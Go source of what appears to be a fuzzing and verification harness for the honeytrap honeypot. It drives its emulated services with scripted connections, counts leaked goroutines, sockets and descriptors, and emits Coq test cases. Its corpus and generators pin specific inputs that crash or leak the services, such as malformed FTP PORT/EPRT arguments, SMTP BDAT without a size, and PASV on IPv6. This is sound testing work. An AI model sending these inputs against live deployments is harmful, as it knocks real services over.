	if panicked && (res.GorGC != 0 || res.LisGC != 0 || res.FdsGC != 0) && sp.SettleMs > 0 {
		// whatever a recovered panic left behind may sit on a timer of its own
		time.Sleep(time.Duration(sp.SettleMs) * time.Millisecond)
		g := settle()
		f, l := fdCounts()
		res.Settled = []int{g - g0, l - l0, f - f0 - heldCount()}
	}
	write()
}
