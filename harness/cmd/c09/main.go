// C09 harness: every modelled service is driven through services.Get behind
// server.TimeoutConn, the way server.handle does it, over a scripted in-memory
// connection (TCP-like: segments then close or silence) or the real
// listener.DummyUDPConn (one datagram), N times in a row inside a child process.
// Observed per connection: how Handle ended (returned / recovered panic / still
// running: spinning or blocked), what it did on the connection (reads, (0,nil) reads,
// idle deadlines waited out, writes), and honeytrap goroutines, listening sockets and
// descriptors above the baseline.
package main

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"io/ioutil"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/listener"

	"verif/harness/hx"
)

// Input is one case (replayable).
type Input struct {
	Svc   string `json:"svc"`
	Proto string `json:"proto"`
	V6    bool   `json:"v6,omitempty"`
	Conn  Conn   `json:"conn"`
	N     int    `json:"n"`
	Kind  string `json:"kind"`
	Real  bool   `json:"real_deadline,omitempty"` // silence is waited out with the real 30 s idle timeout
	Waits int    `json:"passive_waits,omitempty"` // ftp: data commands in the script that wait out a passive-socket timeout (30 s each)
	Slow  bool   `json:"slow,omitempty"`          // needs a passive-socket timeout of wall-clock time: thorough tier only
	Sweep *SweepIn `json:"sweep,omitempty"`       // part "sweep": an unmodelled service (then only this field and n count)
	Dgram *DgramIn `json:"dgram,omitempty"`       // part "dgram": one service, one cluster of datagram sizes around buffer boundaries
}

type Obs struct {
	Conns []ConnObs `json:"conns"`
	GorGC   int       `json:"gor_gc"`
	LisGC   int       `json:"lis_gc"`
	FdsGC   int       `json:"fds_gc"`
	Settled []int     `json:"settled,omitempty"`
	Events  int64     `json:"events"` // events the service sent to its channel during the history
	Lists   [][]hx.B  `json:"lists,omitempty"` // ssh-simulator: string lists decoded from env / exec payloads
}

func runChild(sp Spec, dir string, k int) (ChildResult, string) {
	specPath := filepath.Join(dir, fmt.Sprintf("spec-%d.json", k))
	outPath := filepath.Join(dir, fmt.Sprintf("res-%d.json", k))
	b, _ := json.Marshal(sp)
	ioutil.WriteFile(specPath, b, 0o644)
	os.Remove(outPath)
	defer os.Remove(specPath)
	defer os.Remove(outPath)
	cmd := exec.Command(os.Args[0], "child", specPath, outPath)
	cmd.Stdout = nil
	var errb limitedBuf
	cmd.Stderr = &errb
	if err := cmd.Start(); err != nil {
		hx.Fatal("child start: %v", err)
	}
	donec := make(chan error, 1)
	go func() { donec <- cmd.Wait() }()
	budget := time.Duration(sp.N)*time.Duration(25*sp.DeadlineMs+300)*time.Millisecond + time.Duration(sp.N*sp.WaitMs+sp.SettleMs)*time.Millisecond + 30*time.Second
	var werr error
	select {
	case werr = <-donec:
	case <-time.After(budget):
		cmd.Process.Kill()
		<-donec
		return ChildResult{}, "child exceeded its wall-clock budget"
	}
	var res ChildResult
	rb, err := ioutil.ReadFile(outPath)
	if err != nil {
		return res, fmt.Sprintf("child died without a result (%v): %s", werr, errb.String())
	}
	if err := json.Unmarshal(rb, &res); err != nil {
		return res, "child result unreadable"
	}
	return res, ""
}

type limitedBuf struct {
	mu sync.Mutex
	b  []byte
}

func (l *limitedBuf) Write(p []byte) (int, error) {
	l.mu.Lock()
	if len(l.b) < 4000 {
		l.b = append(l.b, p...)
	}
	l.mu.Unlock()
	return len(p), nil
}
func (l *limitedBuf) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	s := string(l.b)
	// keep the banner of a runtime failure
	if i := strings.Index(s, "fatal error:"); i >= 0 {
		s = s[i:]
	} else if i := strings.Index(s, "panic:"); i >= 0 {
		s = s[i:]
	}
	if len(s) > 300 {
		s = s[:300]
	}
	return s
}

// ---- generators ----

func segment(r *hx.Rand, b []byte) []hx.B {
	if len(b) == 0 {
		return nil
	}
	var out []hx.B
	switch r.Intn(4) {
	case 0: // one write
		return []hx.B{b}
	case 1: // byte by byte for short inputs, else small pieces
		step := 1
		if len(b) > 40 {
			step = 7
		}
		for i := 0; i < len(b); i += step {
			j := i + step
			if j > len(b) {
				j = len(b)
			}
			out = append(out, hx.B(b[i:j]))
		}
		return out
	default:
		rest := b
		for len(rest) > 0 {
			k := r.Range(1, len(rest))
			if r.Chance(1, 3) {
				k = len(rest)
			}
			out = append(out, hx.B(rest[:k]))
			rest = rest[k:]
		}
		return out
	}
}

var lineAlphabet = []byte("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 .:-_/<>@")

func rawLines(r *hx.Rand) []byte {
	var b []byte
	for i, n := 0, r.Range(0, 5); i < n; i++ {
		b = append(b, r.BytesFrom(r.Range(0, 30), lineAlphabet)...)
		switch r.Intn(4) {
		case 0:
			b = append(b, '\n')
		case 1:
			b = append(b, '\r', '\n')
		case 2:
			b = append(b, 0)
		}
	}
	if r.Chance(1, 6) {
		b = append(b, r.Bytes(r.PickInt([]int{1, 10, 300, 5000}))...)
	}
	return b
}

func adbPacket(cmd string, a1, a2 uint32, info []byte) []byte {
	h := make([]byte, 24)
	copy(h, cmd)
	binary.LittleEndian.PutUint32(h[4:], a1)
	binary.LittleEndian.PutUint32(h[8:], a2)
	binary.LittleEndian.PutUint32(h[12:], uint32(len(info)))
	return append(h, info...)
}

// genAdb returns packets; each packet is one segment (adb reads packet-wise)
func genAdb(r *hx.Rand) []hx.B {
	var out []hx.B
	if r.Chance(5, 6) {
		out = append(out, adbPacket("CNXN", 0x01000000, 4096, []byte("host::\x00")))
	}
	for i, n := 0, r.Range(0, 5); i < n; i++ {
		switch r.Intn(8) {
		case 0:
			out = append(out, adbPacket("OPEN", 1, 0, []byte("shell:\x00")))
		case 1:
			out = append(out, adbPacket("WRTE", 1, 9, []byte("ls")))
		case 2:
			out = append(out, adbPacket("WRTE", 1, 9, []byte("id\r")))
		case 3:
			out = append(out, adbPacket("OKAY", 1, 9, nil))
		case 4:
			out = append(out, adbPacket("CLSE", 1, 9, nil))
		case 5:
			out = append(out, adbPacket("SYNC", 1, 9, nil))
		case 6: // short packet
			out = append(out, hx.B(r.PickStr([]string{"OPEN", "WRTE", "OK", "CLSE", "X", "OKAYxx", "WRTE0123456789"})))
		case 7:
			out = append(out, hx.B(r.Bytes(r.Range(1, 40))))
		}
	}
	return out
}

func genTftp(r *hx.Rand) []byte {
	str := func() []byte { return append(r.BytesFrom(r.Range(0, 12), lineAlphabet[:52]), 0) }
	var b []byte
	switch r.Intn(8) {
	case 0:
		b = append([]byte{0, 1}, append(str(), str()...)...)
	case 1:
		b = append([]byte{0, 2}, append(str(), str()...)...)
	case 2:
		b = append([]byte{0, 3, 0, 1}, r.Bytes(r.PickInt([]int{0, 1, 100, 512, 600}))...)
	case 3:
		b = []byte{0, 4, 0, 1}
	case 4:
		b = []byte{0, 5, 0, 1, 'x', 0}
	case 5:
		b = r.Bytes(r.Range(0, 6))
	case 6: // strings without terminator
		b = append([]byte{0, byte(r.Range(1, 2))}, r.BytesFrom(r.Range(0, 12), lineAlphabet[:52])...)
	case 7:
		b = append([]byte{0, byte(r.Range(1, 2))}, str()...)
	}
	if r.Chance(1, 5) && len(b) > 0 {
		b = b[:r.Intn(len(b))]
	}
	return b
}

func genMemcached(r *hx.Rand, udp bool) []byte {
	var b []byte
	if udp && r.Chance(5, 6) {
		b = append(b, 0, 1, 0, 0, 0, 1, 0, 0)
	}
	for i, n := 0, r.Range(0, 6); i < n; i++ {
		switch r.Intn(9) {
		case 0:
			b = append(b, "stats\r\n"...)
		case 1:
			b = append(b, "flush_all\r\n"...)
		case 2:
			b = append(b, "get k\r\n"...)
		case 3:
			v := r.BytesFrom(r.Range(0, 100), lineAlphabet[:62])
			b = append(b, fmt.Sprintf("%s k 0 0 %d\r\n%s\r\n", r.PickStr([]string{"set", "add", "replace", "append", "prepend", "cas"}), len(v), v)...)
		case 4: // count larger than what follows
			b = append(b, fmt.Sprintf("set k 0 0 %d\r\nabc\r\n", r.PickInt([]int{10, 100, 5000, 1 << 20}))...)
		case 5: // odd counts
			b = append(b, fmt.Sprintf("set k 0 0 %s\r\nabc\r\n", r.PickStr([]string{"-5", "+3", "x", "", "99999999999999999999", "0", "007"}))...)
		case 6:
			b = append(b, "set k 0\r\n"...)
		case 7:
			b = append(b, r.BytesFrom(r.Range(0, 20), lineAlphabet)...)
			b = append(b, '\n')
		case 8:
			b = append(b, "\r\n"...)
		}
	}
	if r.Chance(1, 4) && len(b) > 0 {
		b = b[:r.Intn(len(b))]
	}
	return b
}

func caseMix(r *hx.Rand, s string) string {
	switch r.Intn(5) {
	case 0:
		return strings.ToLower(s)
	case 1:
		b := []byte(s)
		for i := range b {
			if r.Bool() && b[i] >= 'A' && b[i] <= 'Z' {
				b[i] += 32
			}
		}
		return string(b)
	}
	return s
}

func genFtp(r *hx.Rand, list bool, pasv string) []byte {
	var b []byte
	line := func(s string) { b = append(b, s...); b = append(b, r.PickStr([]string{"\r\n", "\r\n", "\n"})...) }
	if r.Chance(5, 6) {
		line(caseMix(r, "USER") + " " + r.PickStr([]string{"anonymous", "anonymous", "anonymous", "root", ""}))
		line(caseMix(r, "PASS") + " " + r.PickStr([]string{"anonymous", "anonymous", "anonymous", "x", ""}))
	}
	for i, n := 0, r.Range(0, 6); i < n; i++ {
		switch r.Intn(12) {
		case 0, 1, 2:
			line(caseMix(r, pasv))
		case 3:
			line(caseMix(r, "EPSV"))
		case 4:
			if list {
				line(caseMix(r, "LIST"))
			} else {
				line(caseMix(r, "NOOP"))
			}
		case 5:
			if list {
				line(caseMix(r, "NLST"))
			} else {
				line(caseMix(r, "SYST"))
			}
		case 6:
			line(caseMix(r, "NOOP"))
		case 7:
			line(caseMix(r, r.PickStr([]string{"SYST", "PWD", "XPWD"})))
		case 8:
			line(string(r.BytesFrom(r.Range(0, 10), lineAlphabet[:26])) + " " + string(r.BytesFrom(r.Range(0, 8), lineAlphabet)))
		case 9:
			line("")
		case 10:
			line(caseMix(r, "USER") + " anonymous")
			line(caseMix(r, "PASS") + " anonymous")
		case 11:
			line(caseMix(r, "QUIT"))
		}
		if r.Chance(1, 12) { // parameters that make the command panic (or just not): the session ends there
			line(caseMix(r, r.PickStr([]string{"PORT", "EPRT"})) + " " + r.PickStr([]string{"1,2", "x", "1,2,3,4,5", "|1|", "|1", "|x|", "|2|::1"}))
		}
	}
	if r.Chance(1, 5) && len(b) > 0 {
		b = b[:r.Intn(len(b))]
	}
	return b
}

var ftpOutside = regexp.MustCompile(`(?im)^(LIST|NLST|PASV|ADAT|ALLO|APPE|AUTH|CDUP|CWD|CCC|CONF|DELE|ENC|EPRT|FEAT|MDTM|MIC|MKD|MODE|OPTS|PBSZ|PORT|PROT|RETR|REST|RNFR|RNTO|RMD|SIZE|STOR|STRU|TYPE|XCUP|XCWD|XRMD)( |\r|\n|$)`)

func genSmtp(r *hx.Rand) []byte {
	var b []byte
	line := func(s string) { b = append(b, s...); b = append(b, r.PickStr([]string{"\r\n", "\r\n", "\n"})...) }
	if r.Chance(5, 6) {
		line(caseMix(r, r.PickStr([]string{"HELO", "EHLO"})) + r.PickStr([]string{" example.org", " x", "", " "}))
	}
	for i, n := 0, r.Range(0, 7); i < n; i++ {
		switch r.Intn(10) {
		case 0:
			line(caseMix(r, "MAIL FROM:<a@b>"))
		case 1:
			line(caseMix(r, "RCPT TO:<c@d>"))
		case 2:
			line(caseMix(r, "NOOP"))
		case 3:
			line(caseMix(r, "RSET"))
		case 4:
			line(caseMix(r, "HELP"))
		case 5:
			line(caseMix(r, "QUIT"))
		case 6:
			line("")
		case 7:
			line(r.PickStr([]string{" ", "  \r", "\r"}))
		case 8:
			line(string(r.BytesFrom(r.Range(1, 12), lineAlphabet[:52])))
		case 9:
			line(caseMix(r, "HELO") + " again")
			if r.Chance(1, 2) { // BDAT without a chunk size: panics once a mail transaction is open
				line(caseMix(r, "MAIL FROM:<a@b>"))
				line(caseMix(r, r.PickStr([]string{"BDAT", "BDATx", "bdat"})))
			}
		}
	}
	if r.Chance(1, 4) && len(b) > 0 {
		b = b[:r.Intn(len(b))]
	}
	return b
}

var smtpOutside = regexp.MustCompile(`(?im)^(DATA|BDAT|STARTTLS)`)

var svcs = []string{"ntp", "echo", "dummy", "adb", "tftp", "memcached", "ftp", "smtp"}

func genInput(r *hx.Rand, svc string, tier string) Input {
	in := Input{Svc: svc, Proto: "tcp", N: 1}
	// transport
	switch svc {
	case "tftp":
		if r.Chance(3, 4) {
			in.Proto = "udp"
		}
	case "ntp", "echo", "memcached":
		if r.Chance(1, 2) {
			in.Proto = "udp"
		}
	case "dummy", "adb", "smtp":
		if r.Chance(1, 4) {
			in.Proto = "udp"
		}
	}
	in.Conn.End = "close"
	if in.Proto == "tcp" && r.Chance(1, 3) {
		in.Conn.End = "silent"
	}
	if in.Proto == "udp" {
		in.Conn.End = ""
	}
	var payload []byte
	in.Kind = "dialogue"
	switch {
	case r.Chance(1, 10):
		in.Kind = "empty"
	case r.Chance(1, 6):
		in.Kind = "raw"
		payload = rawLines(r)
	default:
		switch svc {
		case "ntp", "echo", "dummy":
			payload = rawLines(r)
		case "tftp":
			payload = genTftp(r)
		case "memcached":
			payload = genMemcached(r, in.Proto == "udp")
		case "ftp":
			// a data command on a passive socket whose client does not come (or holds still)
			// waits out the 30 s passive timeout: only the corpus of the thorough tier does
			// that; a PASV on an IPv6 local address panics and leaves its socket behind for
			// 30 s: thorough tier only (the check then waits and measures again)
			in.V6 = r.Chance(1, 5)
			in.Conn.Dial = r.PickStr([]string{"", "", "knock", "knock", "hold"})
			pasv := "PASV"
			if in.V6 && tier != "thorough" {
				pasv = "EPSV"
			}
			payload = genFtp(r, in.Conn.Dial == "knock", pasv)
		case "smtp":
			payload = genSmtp(r)
		}
	}
	if svc == "adb" && in.Kind == "dialogue" {
		in.Conn.Segs = genAdb(r)
	} else {
		in.Conn.Segs = segment(r, payload)
	}
	if in.Kind == "raw" { // raw bytes must stay inside the modelled fragment of ftp / smtp
		var all []byte
		for _, s := range in.Conn.Segs {
			all = append(all, s...)
		}
		if (svc == "ftp" && ftpOutside.Match(all)) || (svc == "smtp" && smtpOutside.Match(all)) {
			in.Conn.Segs = nil
			in.Kind = "empty"
		}
	}
	if svc == "ftp" && in.Kind != "dialogue" {
		in.V6 = r.Chance(1, 5)
		in.Conn.Dial = r.PickStr([]string{"", "", "knock", "knock", "hold"})
	}
	// a peer that stops reading (and keeps the connection open): every reply beyond what it
	// still takes waits out the write deadline of server.TimeoutConn
	stalled := false
	// (ftp: only scripts without data commands - a peer that reads nothing never learns the
	// passive port, and a data command would wait out the 30 s passive-socket timeout)
	if in.Proto == "tcp" && svc != "ntp" && !(svc == "ftp" && (in.Conn.Dial == "knock" || in.Kind != "dialogue")) && r.Chance(1, 5) {
		room := r.PickInt([]int{0, 0, 1, 10, 30, 120})
		if svc == "ftp" || svc == "smtp" {
			room = 0 // reply lengths are not modelled: the peer reads nothing at all
			in.Conn.Dial = ""
		}
		in.Conn.Room = &room
		in.Conn.End = "silent"
		stalled = true
	}
	// history length
	big := []int{1, 1, 2, 3, 5, 8, 20, 50}
	if tier == "thorough" {
		big = []int{1, 2, 3, 5, 8, 20, 50, 100, 200}
	}
	in.N = r.PickInt(big)
	if in.Conn.End == "silent" && in.N > 3 {
		in.N = r.Range(1, 3)
	}
	if stalled {
		in.N = r.Range(1, 2)
	}
	if svc == "ftp" && in.V6 && in.N > 5 {
		// a PASV on an IPv6 local address panics and leaves its socket to a 30 s timer: the
		// whole history has to fit well inside that time for the count to be exact
		in.N = r.Range(1, 5)
	}
	return in
}

func room(n int) *int { return &n }

func str(segs ...string) []hx.B {
	var o []hx.B
	for _, s := range segs {
		o = append(o, hx.B(s))
	}
	return o
}

// corpus: the pinned findings and the boundary cases the property names
func corpus() []Input {
	cnxn := string(adbPacket("CNXN", 0x01000000, 4096, []byte("host::\x00")))
	login := []string{"USER anonymous\r\n", "PASS anonymous\r\n"}
	with := func(x ...string) []hx.B { return str(append(append([]string{}, login...), x...)...) }
	return []Input{
		{Svc: "ntp", Proto: "udp", N: 1, Kind: "corpus", Conn: Conn{Segs: str("\x1b" + strings.Repeat("\x00", 47))}},
		{Svc: "echo", Proto: "udp", N: 1, Kind: "corpus", Conn: Conn{Segs: str("hello")}},
		{Svc: "adb", Proto: "udp", N: 1, Kind: "corpus", Conn: Conn{Segs: str(cnxn)}},
		{Svc: "ftp", Proto: "tcp", N: 1, Kind: "corpus", Slow: true, Waits: 1, Conn: Conn{End: "close", Segs: with("PASV\r\n", "LIST\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 10, Kind: "corpus", Conn: Conn{End: "close"}},
		{Svc: "ftp", Proto: "tcp", N: 10, Kind: "corpus", Conn: Conn{End: "close", Segs: with("PASV\r\n", "QUIT\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 5, Kind: "corpus", Conn: Conn{End: "close", Dial: "knock", Segs: with("PASV\r\n", "PASV\r\n", "LIST\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 1, Kind: "corpus", Slow: true, Waits: 1, Conn: Conn{End: "close", Dial: "hold", Segs: with("PASV\r\n", "NLST\r\n", "NOOP\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 4, Kind: "corpus", Conn: Conn{End: "close", Dial: "hold", Segs: with("PASV\r\n", "QUIT\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 3, V6: true, Kind: "corpus", Conn: Conn{End: "close", Segs: with("EPSV\r\n", "EPSV\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 2, V6: true, Kind: "corpus", Slow: true, Conn: Conn{End: "close", Segs: with("PASV\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 6, Kind: "corpus", Conn: Conn{End: "close", Segs: with("PASV\r\n", "PASV\r\n", "PASV\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 3, Kind: "corpus", Conn: Conn{End: "silent", Dial: "hold", Segs: with("PASV\r\n", "PASV\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 2, Kind: "corpus", Conn: Conn{End: "silent", Segs: with("PAS")}},
		{Svc: "smtp", Proto: "tcp", N: 10, Kind: "corpus", Conn: Conn{End: "close", Segs: str("HELO x\r\n", "QUIT\r\n")}},
		{Svc: "smtp", Proto: "tcp", N: 2, Kind: "corpus", Conn: Conn{End: "silent", Segs: str("HELO x\r\n", "NOO")}},
		{Svc: "smtp", Proto: "tcp", N: 1, Kind: "corpus", Conn: Conn{End: "silent"}},
		{Svc: "smtp", Proto: "udp", N: 2, Kind: "corpus", Conn: Conn{Segs: str("EHLO x\r\nNOOP\r\n")}},
		{Svc: "dummy", Proto: "udp", N: 3, Kind: "corpus", Conn: Conn{Segs: str("abc\ndef")}},
		{Svc: "memcached", Proto: "udp", N: 2, Kind: "corpus", Conn: Conn{Segs: str("\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n")}},
		{Svc: "memcached", Proto: "udp", N: 2, Kind: "corpus", Conn: Conn{}},
		{Svc: "ntp", Proto: "udp", N: 2, Kind: "corpus", Conn: Conn{}},
		{Svc: "echo", Proto: "udp", N: 2, Kind: "corpus", Conn: Conn{}},
		{Svc: "dummy", Proto: "udp", N: 2, Kind: "corpus", Conn: Conn{}},
		{Svc: "adb", Proto: "udp", N: 2, Kind: "corpus", Conn: Conn{}},
		{Svc: "tftp", Proto: "udp", N: 2, Kind: "corpus", Conn: Conn{}},
		{Svc: "smtp", Proto: "udp", N: 2, Kind: "corpus", Conn: Conn{}},
		{Svc: "ftp", Proto: "udp", N: 1, Kind: "corpus", Conn: Conn{}},
		{Svc: "memcached", Proto: "udp", N: 1, Kind: "corpus", Conn: Conn{Segs: str("\x00\x01\x00\x00\x00\x01\x00\x00set k 0 0 100000\r\nabc\r\n")}},
		{Svc: "tftp", Proto: "udp", N: 2, Kind: "corpus", Conn: Conn{Segs: str("\x00\x01file")}},
		{Svc: "adb", Proto: "tcp", N: 2, Kind: "corpus", Conn: Conn{End: "silent", Segs: str(cnxn)}},
		{Svc: "adb", Proto: "udp", N: 2, Kind: "corpus", Conn: Conn{Segs: str("CNXNshort")}},
		{Svc: "echo", Proto: "tcp", N: 3, Kind: "corpus", Conn: Conn{End: "silent", Segs: str("a", "b")}},
		// sessions that end in a recovered panic: everything must be released as after a normal one
		{Svc: "smtp", Proto: "tcp", N: 10, Kind: "corpus", Conn: Conn{End: "close", Segs: str("HELO x\r\n", "MAIL FROM:<a@b>\r\n", "BDAT\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 10, Kind: "corpus", Conn: Conn{End: "close", Segs: with("PORT 1,2\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 5, Kind: "corpus", Conn: Conn{End: "close", Segs: with("EPRT |1|\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 3, Kind: "corpus", Conn: Conn{End: "close", Dial: "knock", Segs: with("PASV\r\n", "PORT 1,2\r\n")}},
		{Svc: "ftp", Proto: "tcp", N: 2, Kind: "corpus", Slow: true, Conn: Conn{End: "close", Segs: with("PASV\r\n", "PORT x\r\n")}},
		{Svc: "adb", Proto: "tcp", N: 10, Kind: "corpus", Conn: Conn{End: "close", Segs: str(cnxn, "OPEN")}},
		// input that fills the 4096-byte bufio buffer without completing a line
		{Svc: "dummy", Proto: "tcp", N: 2, Kind: "corpus", Conn: Conn{End: "close", Segs: str(strings.Repeat("a", 4096))}},
		{Svc: "dummy", Proto: "tcp", N: 1, Kind: "corpus", Conn: Conn{End: "silent", Segs: str(strings.Repeat("a", 4095), "bb", strings.Repeat("c", 8192)+"\n")}},
		{Svc: "memcached", Proto: "tcp", N: 1, Kind: "corpus", Conn: Conn{End: "close", Segs: str(strings.Repeat("a", 4097))}},
		{Svc: "ftp", Proto: "tcp", N: 2, Kind: "corpus", Conn: Conn{End: "silent", Segs: str("USER "+strings.Repeat("a", 4091), "b", "\r\nNOOP\r\n")}},
		{Svc: "smtp", Proto: "tcp", N: 2, Kind: "corpus", Conn: Conn{End: "close", Segs: str("HELO x\r\n", "NOOP "+strings.Repeat("a", 4090)+"\r", "\nNOOP\r\n"+strings.Repeat("b", 9000))}},
		// peers that stop reading
		{Svc: "echo", Proto: "tcp", N: 2, Kind: "corpus", Conn: Conn{End: "silent", Room: room(0), Segs: str("hello", "world")}},
		{Svc: "echo", Proto: "tcp", N: 1, Kind: "corpus", Conn: Conn{End: "silent", Room: room(7), Segs: str("hello", "world")}},
		{Svc: "dummy", Proto: "tcp", N: 1, Kind: "corpus", Conn: Conn{End: "silent", Room: room(0), Segs: str("a\nb\nc\n")}},
		{Svc: "adb", Proto: "tcp", N: 1, Kind: "corpus", Conn: Conn{End: "silent", Room: room(100), Segs: str(cnxn, string(adbPacket("OPEN", 1, 0, []byte("shell:\x00"))))}},
		{Svc: "memcached", Proto: "tcp", N: 1, Kind: "corpus", Conn: Conn{End: "silent", Room: room(10), Segs: str("stats\r\nget k\r\n")}},
		{Svc: "tftp", Proto: "tcp", N: 1, Kind: "corpus", Conn: Conn{End: "silent", Room: room(0), Segs: str("\x00\x01f\x00octet\x00")}},
		{Svc: "ftp", Proto: "tcp", N: 2, Kind: "corpus", Conn: Conn{End: "silent", Room: room(0), Segs: with("NOOP\r\n", "PASV\r\n")}},
		{Svc: "smtp", Proto: "tcp", N: 2, Kind: "corpus", Conn: Conn{End: "silent", Room: room(0), Segs: str("EHLO x\r\n", "NOOP\r\n")}},
	}
}

// ---- Coq rendering ----

var svcCoq = map[string]string{"ntp": "Ntp", "echo": "Echo", "dummy": "Dummy", "adb": "Adb", "tftp": "Tftp", "memcached": "Memcached", "ftp": "Ftp", "smtp": "Smtp"}
var dialCoq = map[string]string{"": "DialNone", "knock": "DialKnock", "hold": "DialHold"}
var outCode = map[string]int{"returned": 0, "panic": 1, "spin": 2, "blocked": 3}

// what the real listener.DummyUDPConn does once its datagram is consumed: (0, nil) for
// ever [TZero] or end of stream [TEof] - asked of the code, not assumed
var udpTerm = "TZero"

func probeUDPTerm() string {
	rbuf := make([]byte, 65536)
	rbuf[0] = 1
	out := "TEof"
	// a one-byte datagram and a zero-length one (buf[:0]: empty, not nil - what the socket
	// listener hands over), each read twice past its end
	for _, n0 := range []int{1, 0} {
		dc := &listener.DummyUDPConn{Buffer: rbuf[:n0]}
		buf := make([]byte, 4)
		if n0 > 0 {
			dc.Read(buf)
		}
		for k := 0; k < 2; k++ {
			n, err := dc.Read(buf)
			switch {
			case n == 0 && err == io.EOF:
			case n == 0 && err == nil:
				out = "TZero"
				if n0 == 0 {
					out = "TZero-on-empty-datagram"
				}
			default:
				hx.Fatal("listener.DummyUDPConn.Read after the datagram: (%d, %v) - neither (0, nil) nor (0, EOF)", n, err)
			}
		}
	}
	return out
}

func coqCase(id int, in Input, ob Obs) string {
	var segs []string
	term := "TEof"
	if in.Proto == "udp" {
		// udpTerm == "TZero" would be a regression of listener.DummyUDPConn: the model (of the
		// repaired code) has no such ending; the spinning handlers then show as violations
		var d []byte
		for _, s := range in.Conn.Segs {
			d = append(d, s...)
		}
		if len(d) > 0 {
			segs = append(segs, hx.CoqBytes(d))
		}
	} else {
		if in.Conn.End == "silent" {
			term = "TTimeout"
		}
		for _, s := range in.Conn.Segs {
			segs = append(segs, hx.CoqBytes(s))
		}
	}
	var os []string
	for _, c := range ob.Conns {
		os = append(os, fmt.Sprintf("mkObs %d %d %d %d %d %d %d %d %s %s %s", outCode[c.Outcome], c.Reads, c.ZeroReads, c.Timeouts, c.EOFs, c.Writes, c.WBytes, c.WTimeouts,
			hx.CoqZ(int64(c.Gor)), hx.CoqZ(int64(c.Lis)), hx.CoqZ(int64(c.Fds))))
	}
	settled := "(@None (Z * Z * Z))"
	if len(ob.Settled) == 3 {
		settled = fmt.Sprintf("(Some (%s, %s, %s))", hx.CoqZ(int64(ob.Settled[0])), hx.CoqZ(int64(ob.Settled[1])), hx.CoqZ(int64(ob.Settled[2])))
	}
	room := "(@None N)"
	if in.Conn.Room != nil && in.Proto != "udp" {
		room = "(Some " + hx.CoqN(uint64(*in.Conn.Room)) + ")"
	}
	return fmt.Sprintf("mkCase %s (mkScn %s %s %s %s) %s %s %s %s %s (%s, %s, %s) %s", hx.CoqN(uint64(id)), svcCoq[in.Svc], hx.CoqBool(in.Proto == "udp"), hx.CoqBool(in.V6), dialCoq[in.Conn.Dial],
		hx.CoqList(segs, "bytes"), term, room, hx.CoqN(uint64(in.N)), hx.CoqList(os, "obs"),
		hx.CoqZ(int64(ob.GorGC)), hx.CoqZ(int64(ob.LisGC)), hx.CoqZ(int64(ob.FdsGC)), settled)
}

func main() {
	if len(os.Args) >= 4 && os.Args[1] == "child" {
		childMain(os.Args[2], os.Args[3])
		return
	}
	o := hx.ParseArgs()
	udpTerm = probeUDPTerm()
	r := hx.NewRand(o.Seed)
	var ins []Input
	var dgIns []DgramIn
	dgDist := map[string]int{}
	if o.Only != "" {
		var in Input
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			hx.Fatal("replay: %v", err)
		}
		if in.Dgram != nil {
			dgIns = []DgramIn{*in.Dgram}
		} else {
			ins = []Input{in}
		}
	} else {
		dgIns, dgDist = dgramCases()
		dgIns = append(dgIns, dgramProbes()...)
		ins = append(ins, corpus()...)
		per := 22
		switch o.Tier {
		case "thorough":
			per = 220
		case "search":
			per = 60
		}
		for i := 0; i < per; i++ {
			for _, s := range svcs {
				ins = append(ins, genInput(r, s, o.Tier))
			}
		}
	}
	if o.Only == "" && o.Tier == "thorough" {
		// one run per service with the idle timeout the server really uses
		for _, sv := range svcs {
			in := Input{Svc: sv, Proto: "tcp", N: 1, Kind: "real-deadline", Real: true, Conn: Conn{End: "silent"}}
			switch sv {
			case "smtp":
				in.Conn.Segs = str("HELO x\r\n", "NOO")
			case "ftp":
				in.Conn.Segs = str("USER anonymous\r\n", "PAS")
			case "dummy", "memcached":
				in.Conn.Segs = str("abc")
			}
			ins = append(ins, in)
		}
	}
	if o.Only == "" {
		ns := []int{1, 10}
		if o.Tier == "thorough" {
			ns = []int{1, 10, 50, 200}
		}
		for _, sv := range []string{"vnc", "ssh-simulator", "ipp", "telnet"} {
			nsc := 5
			if sv == "ssh-simulator" {
				nsc = 3
			}
			if sv == "telnet" {
				nsc = 6
			}
			if sv == "vnc" {
				nsc = 8
			}
			for sc := 0; sc < nsc; sc++ {
				for _, silent := range []bool{false, true} {
					for _, n := range ns {
						if silent && n > 10 {
							continue
						}
						if silent && n > 1 {
							n = 2
						}
						ins = append(ins, Input{Svc: sv, Proto: "tcp", N: n, Kind: "sweep", Sweep: &SweepIn{Svc: sv, Scenario: sc, Silent: silent, N: n}})
					}
				}
			}
		}
	}
	if o.Only == "" {
		// ssh channel requests: every truncation point of well-formed payloads, stray bytes after
		// them, odd lengths, random payloads - for the request types whose payload the simulator
		// decodes in a loop (env, exec) and for the others
		sstr := func(xs ...string) []byte {
			var b []byte
			for _, x := range xs {
				b = append(b, be32(uint32(len(x)))...)
				b = append(b, x...)
			}
			return b
		}
		prefixes := func(b []byte) []hx.B {
			var o []hx.B
			for i := 0; i <= len(b); i++ {
				o = append(o, hx.B(append([]byte{}, b[:i]...)))
			}
			return o
		}
		for _, req := range []string{"env", "exec"} {
			stray := []hx.B{}
			for _, base := range [][]byte{nil, sstr("A"), sstr("LANG", "C")} {
				for k := 1; k <= 3; k++ {
					stray = append(stray, hx.B(append(append([]byte{}, base...), make([]byte, k)...)))
				}
			}
